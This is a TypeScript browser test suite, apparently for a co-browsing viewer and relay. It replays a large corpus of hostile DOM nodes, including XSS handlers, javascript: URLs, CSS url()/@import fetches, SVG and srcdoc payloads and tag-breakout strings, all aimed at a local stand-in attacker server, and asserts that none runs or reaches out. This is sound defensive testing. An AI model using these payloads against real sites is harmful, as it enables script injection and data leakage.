/**
 * What a forged page could try in the agent's browser. The corpus goes twice: over the relay, as a hostile recorder would send it, and straight
 * into the viewer, as if sanitizer and relay had missed all of it. Script execution and network access are watched in every frame.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { io, type Socket } from 'socket.io-client';
import type { Browser, BrowserContext, Page, Request } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { CobrowseClientEvents, CobrowseFrame, CobrowseServerEvents } from '#shared/cobrowse-protocol.ts';
import { eventually, launch, viewerFrame } from './browser.ts';
import { buildBundles, createStand, type Bundles, type Stand } from './stand.ts';

type Json = Record<string, unknown>;

let bundles: Bundles;
let browser: Browser;
let stand: Stand;
let agent: BrowserContext;
let evil: Server;
let evilUrl: string;
/** What reached the attacker, and what ran. */
let hits: string[];
let executions: string[];
/** Requests that were begun, but for those that the browser stopped before they left: by the policy, or as another origin's. */
let asked: Set<Request>;

beforeAll(async () => {
  [bundles, browser] = await Promise.all([buildBundles(), launch()]);
  evil = createServer((request, response) => {
    hits.push(request.url ?? '');
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('');
  });
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
}, 60_000);

afterAll(async () => {
  await browser.close();
  await bundles.remove();
  evil.closeAllConnections();
  await new Promise((resolve) => evil.close(resolve));
});

beforeEach(async () => {
  stand = await createStand(bundles);
  agent = await browser.newContext({ viewport: { width: 900, height: 700 } });
  [hits, executions, asked] = [[], [], new Set()];
  await agent.exposeBinding('pwned', (_source, what: unknown) => { executions.push(String(what)); });
  agent.on('request', (request) => asked.add(request));
  agent.on('requestfailed', (request) => { if (/^(?:csp|origin)$/.test(request.failure()?.errorText ?? '')) asked.delete(request); });
});

afterEach(async () => {
  await agent.close();
  await stand.close();
});

let nextId = 100;
const text = (textContent: string): Json => ({ type: 3, id: nextId++, textContent });
const element = (tagName: string, attributes: Json = {}, childNodes: Json[] = [], more: Json = {}): Json => ({ type: 2, id: nextId++, tagName, attributes, childNodes, ...more });
const run = 'pwned(1);parent.pwned&&parent.pwned(2);top.pwned&&top.pwned(3)';

/** Each a thing that runs, fetches or leads somewhere in a browser that lets it. */
function corpus(): Json[] {
  const url = (name: string): string => `${evilUrl}/${name}`;
  const svg = (attributes: Json, childNodes: Json[] = []): Json => element('svg', attributes, childNodes, { isSVG: true });
  const inSvg = (tag: string, attributes: Json, childNodes: Json[] = []): Json => element(tag, attributes, childNodes, { isSVG: true });
  return [
    element('script', {}, [text(run)]), element('script', { src: url('script') }), element('SCRIPT', { type: 'module' }, [text(run)]),
    element('img', { src: url('img'), onerror: run, onload: run }), element('img', { srcset: `${url('srcset')} 1x` }), element('img', { rr_dataURL: url('dataurl') }),
    element('image', { src: url('image') }), element('picture', {}, [element('source', { srcset: url('source') }), element('img', {})]),
    element('video', { src: url('video'), poster: url('poster'), autoplay: '' }), element('audio', { src: url('audio'), autoplay: '' }), element('track', { src: url('track') }),
    element('iframe', { src: url('iframe') }), element('iframe', { srcdoc: `<script>${run}</script><img src=${url('srcdoc')}>` }), element('iframe', { src: `javascript:${run}` }),
    element('frame', { src: url('frame') }), element('object', { data: url('object') }), element('embed', { src: url('embed') }), element('portal', { src: url('portal') }), element('fencedframe', { src: url('fenced') }),
    element('link', { rel: 'stylesheet', href: url('link') }), element('link', { rel: 'preload', as: 'image', href: url('preload') }), element('link', { rel: 'prefetch', href: url('prefetch') }),
    element('link', { rel: 'dns-prefetch', href: url('dns') }), element('link', { rel: 'preconnect', href: evilUrl }), element('link', { rel: 'icon', href: url('icon') }), element('link', { rel: 'manifest', href: url('manifest') }),
    element('link', { rel: 'modulepreload', href: url('modulepreload') }), element('link', { rel: 'stylesheet', _cssText: `@import url(${url('csstext')});body{background:url(${url('cssbg')})}` }),
    element('style', {}, [text(`@import "${url('import')}"; body{background:url(${url('style')})} @font-face{font-family:x;src:url(${url('font')})} p{font-family:x;cursor:url(${url('cursor')}),auto} p::after{content:url(${url('content')})}`)]),
    element('style', { _cssText: `body{background:image-set(url(${url('imageset')}) 1x)}` }), element('p', { style: `background:url(${url('inline')});list-style:url(${url('list')})` }, [text('x')]),
    element('p', { style: `background:u\\72l(${url('escaped')})` }, [text('x')]), element('p', { style: `--x:url(${url('variable')});background:var(--x)` }, [text('x')]),
    element('body', { background: url('background'), onload: run }), element('table', { background: url('table') }), element('td', { background: url('td') }),
    element('meta', { 'http-equiv': 'refresh', content: `0;url=${url('refresh')}` }), element('meta', { 'http-equiv': 'Content-Security-Policy', content: "script-src 'unsafe-inline' *" }), element('base', { href: evilUrl, target: '_top' }),
    element('a', { href: `javascript:${run}`, id: 'jslink', ping: url('ping') }, [text('link')]), element('a', { href: url('a'), target: '_top', id: 'toplink' }, [text('link')]), element('area', { href: `javascript:${run}` }),
    element('form', { action: url('form'), target: '_top' }, [element('input', { type: 'image', src: url('inputimage') }), element('button', { formaction: url('formaction'), type: 'submit', id: 'submit' }, [text('go')])]),
    element('input', { autofocus: '', onfocus: run }), element('details', { open: '', ontoggle: run }, [text('x')]), element('marquee', { onstart: run }, [text('x')]), element('p', { onmouseover: run, onclick: run, onpointerenter: run, id: 'handlers' }, [text('hover')]),
    element('p', { style: 'animation:x 1s', onanimationstart: run }, [text('x')]), element('dialog', { open: '', rr_open_mode: 'modal' }, [text('x')]), element('template', { shadowrootmode: 'open' }, [element('script', {}, [text(run)])]),
    svg({ onload: run }, [inSvg('script', {}, [text(run)]), inSvg('image', { href: url('svgimage'), 'xlink:href': url('xlinkimage') }), inSvg('use', { href: `${url('use')}#x`, 'xlink:href': `${url('xuse')}#x` })]),
    svg({}, [inSvg('a', { 'xlink:href': `javascript:${run}`, href: `javascript:${run}` }, [inSvg('text', {}, [text('x')])]), inSvg('animate', { attributeName: 'href', values: `javascript:${run}`, onbegin: run }), inSvg('set', { attributeName: 'onmouseover', to: run, onbegin: run })]),
    svg({}, [inSvg('foreignObject', {}, [element('iframe', { srcdoc: `<script>${run}</script>` }), element('img', { src: url('foreign'), onerror: run })]), inSvg('feImage', { href: url('feimage') }), inSvg('filter', {}, [inSvg('feImage', { 'xlink:href': url('xfeimage') })])]),
    svg({}, [inSvg('rect', { fill: `url(${url('fill')}#x)`, mask: `url(${url('mask')})`, 'clip-path': `url(${url('clip')}#x)`, width: '10', height: '10' }), inSvg('style', {}, [text(`@import url(${url('svgimport')});`)])]),
    element('math', {}, [element('mtext', { href: `javascript:${run}` }, [text('x')])]), element('noscript', {}, [text(`<img src=${url('noscript')} onerror=${run}>`)]), element('textarea', {}, [text(`</textarea><script>${run}</script>`)]),
    element('title', {}, [text(`</title><script>${run}</script>`)]), element('xmp', {}, [text(`</xmp><script>${run}</script>`)]), element('x-evil', { is: 'x-evil', src: url('custom') }, [text('x')]), element('isindex', { action: url('isindex') }), element('keygen', { onfocus: run, autofocus: '' }),
    element('div', { 'data-gethelp-placeholder': `"]{}</style><img src=${url('placeholder')}>`, rr_width: `1px;background:url(${url('rrwidth')})`, rr_height: '20px' }), element('canvas', { rr_dataURL: url('canvas') }), element('input', { value: `"><img src=${url('value')} onerror=${run}>` }),
    element('p', { '__proto__': { onclick: run }, constructor: run, 'on\nclick': run, 'o\u0000nclick': run }, [text(`<img src=${url('text')} onerror=${run}>`)]),
  ];
}

let seq = 0;
function frame(type: number, data: unknown): CobrowseFrame {
  const envelope = { tab: 't', pageEpoch: 'p', seq, snapshotEpoch: 1 };
  seq += 1;
  return { envelope, event: { type, timestamp: 1_000 + seq, data } };
}

/** A page that could be anybody's, into which the corpus is put later. */
function page(children: readonly Json[]): CobrowseFrame[] {
  seq = 0;
  const body = { type: 2, id: 4, tagName: 'body', attributes: {}, childNodes: [{ type: 2, id: 5, tagName: 'h1', attributes: { 'data-gethelp-unmask': '' }, childNodes: [{ type: 3, id: 6, textContent: 'PUBLIC-hostile' }] }, ...children] };
  const html = { type: 2, id: 2, tagName: 'html', attributes: {}, childNodes: [{ type: 2, id: 3, tagName: 'head', attributes: {}, childNodes: [] }, body] };
  return [frame(4, { href: `javascript:${run}`, width: 800, height: 600 }), frame(2, { node: { type: 0, id: 1, childNodes: [html] }, initialOffset: { top: 0, left: 0 } })];
}

/** The corpus in a snapshot, one by one as additions, and as changes of what is there. */
function attacks(): CobrowseFrame[][] {
  const added = (node: Json): CobrowseFrame => frame(3, { source: 0, texts: [], attributes: [], removes: [], adds: [{ parentId: 4, nextId: null, node }] });
  const attributes = corpus().map(({ attributes: given }) => frame(3, { source: 0, texts: [], attributes: [{ id: 5, attributes: given }], removes: [], adds: [] }));
  const others = [
    frame(3, { source: 8, id: 3, adds: [{ rule: `@import url(${evilUrl}/rule)` }, { rule: `body{background:url(${evilUrl}/rulebg)}` }] }),
    frame(3, { source: 13, id: 3, index: [0], set: { property: 'background', value: `url(${evilUrl}/declaration)` } }), frame(3, { source: 15, id: 1, styles: [{ styleId: 1, rules: [{ rule: `body{background:url(${evilUrl}/adopted)}` }] }], styleIds: [1] }),
    frame(3, { source: 9, id: 5, type: 0, commands: [{ property: 'constructor', args: [run] }] }), frame(3, { source: 10, family: 'x', fontSource: `url(${evilUrl}/fontface)`, buffer: false }), frame(3, { source: 7, id: 5, type: 0 }),
    frame(3, { source: 5, id: 5, text: `<script>${run}</script>`, isChecked: false }), frame(5, { tag: 'x', payload: run }), frame(6, { plugin: 'x', payload: { run } }), frame(3, { source: 3, id: 5, x: run, y: {} }),
  ];
  return [page(corpus()), [...page([]), ...corpus().map(added)], [...page([]), ...attributes], [...page([]), ...others]];
}

/** Presses and hovers everything, as an agent might. */
async function handle(desk: Page): Promise<void> {
  const box = await desk.locator('iframe').boundingBox();
  for (let y = 20; y < (box?.height ?? 0); y += 60) {
    await desk.mouse.move(60, y);
    await desk.mouse.click(60, y);
  }
}

function outside(): string[] {
  const ours = [stand.deskUrl, stand.relayUrl, 'data:', 'blob:', 'about:', stand.relayUrl.replace('http', 'ws')];
  return [...hits, ...[...asked].map((request) => `${request.url()} ${request.failure()?.errorText ?? ''}`).filter((url) => !ours.some((one) => url.startsWith(one)))];
}

async function expectNothing(desk: Page, before: string): Promise<void> {
  await handle(desk);
  // Whatever was to run or to be fetched has had its chance by the time that the viewer has drawn some frames more. Blocked frames never answer.
  const viewer = await viewerFrame(desk);
  for (const each of [desk.mainFrame(), viewer]) {
    await each.evaluate(() => new Promise<void>((resolve) => {
      const draw = (left: number): void => { if (left === 0) resolve(); else requestAnimationFrame(() => draw(left - 1)); };
      draw(20);
    }));
  }
  expect({ executions, outside: outside(), url: desk.url() }).toEqual({ executions: [], outside: [], url: before });
  expect(await viewer.evaluate(() => [...document.querySelectorAll('.stage iframe')].map((each) => each.getAttribute('sandbox')))).not.toContainEqual(expect.stringContaining('allow-scripts'));
}

describe('a hostile page', () => {
  it('CB80 runs nothing and reaches nothing in the agent’s browser when it comes straight into the viewer', async () => {
    for (const attack of attacks()) {
      const desk = await agent.newPage();
      await desk.goto(stand.deskPage('none').replace('token=none', 'replay=1'));
      await desk.evaluate((items) => window.playRecording(items), attack.map((one, index) => ({ at: index, frames: [one] })) as never);
      const url = desk.url();
      await eventually('the picture', async () => (await viewerFrame(desk)).evaluate(() => document.querySelector<HTMLIFrameElement>('.stage.shown iframe')?.contentDocument?.body.innerText.includes('PUBLIC-hostile')));
      await eventually('the end of the attack', () => desk.evaluate(() => window.replayed));
      await expectNothing(desk, url);
      await desk.close();
    }
  }, 120_000);

  it('CB80 gets nothing of it past the relay, which goes on serving', async () => {
    const desk = await agent.newPage();
    await desk.goto(stand.deskPage('viewer'));
    const url = desk.url();
    const client: Socket<CobrowseServerEvents, CobrowseClientEvents> = io(`${stand.relayUrl}/cobrowse`, { auth: { token: 'sharer' }, transports: ['websocket'], forceNew: true });
    await new Promise<void>((resolve) => client.once('connect', resolve));
    let snapshotEpoch = 0;
    let next = 0;
    const send = (frames: readonly CobrowseFrame[]) => client.timeout(5_000).emitWithAck('frames', frames.map(({ event, envelope }) => {
      if (event.type === 4) snapshotEpoch += 1;
      next += 1;
      return { event, envelope: { ...envelope, seq: next, snapshotEpoch } };
    }));
    for (const attack of attacks()) {
      const [meta, snapshot, ...following] = attack;
      await send([meta!, snapshot!]);
      for (const one of following) {
        await send([one]);
        await send(page([]));
      }
    }
    expect(await send(page([]).map((one) => ({ ...one, event: { ...one.event, data: one.event.type === 4 ? { href: 'https://bank.example/', width: 800, height: 600 } : one.event.data } })))).toEqual({ ok: true, value: null });
    await eventually('the harmless page', async () => (await viewerFrame(desk)).evaluate(() => document.querySelector<HTMLIFrameElement>('.stage.shown iframe')?.contentDocument?.body.innerText.includes('PUBLIC-hostile')));
    expect(stand.sent.join('')).not.toMatch(/pwned|javascript:|onerror/);
    expect(stand.sent.join('')).not.toContain(evilUrl);
    await expectNothing(desk, url);
    client.close();
  }, 120_000);
});
